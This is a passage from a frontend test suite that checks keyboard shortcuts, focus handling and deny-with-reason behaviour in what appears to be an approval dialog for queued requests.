      expect(backend.callsOf('decide_approval')).toEqual([{ id: 'a1', choice: { deny: { reason: null, always: false } } }]),
    );
  });

  it('Deny always… with its reason field: the field has the focus, and the letters go into it', async () => {
    const { backend } = setup();
    await shown();
    await fireEvent.keyDown(window, { key: 'D' });
    const reason = (await screen.findByTestId('grant-reason')) as HTMLInputElement;
    await waitFor(() => expect(document.activeElement).toBe(reason));
    screen.getByTestId('grant-deny').focus(); // a click on the radio
    await typeKeys('a');
    expect(document.activeElement).toBe(reason);
    expect(backend.callsOf('decide_approval')).toEqual([]);
  });

  it('edited arguments shown: the shortcuts are off and the queue does not move with the arrows', async () => {
    const { backend } = setup(2);
    await shown();
    await fireEvent.keyDown(window, { key: 'e' });
    const text = await screen.findByTestId('edit-text');
    await waitFor(() => expect(document.activeElement).toBe(text));
    text.blur();
    for (const key of ['a', 's', 'd', 'ArrowRight']) await fireEvent.keyDown(document.body, { key });
    expect(screen.getByTestId('prompt-position').textContent).toBe('1 of 2');
    expect(backend.callsOf('decide_approval')).toEqual([]);
    expect(document.activeElement).toBe(text);
  });
});
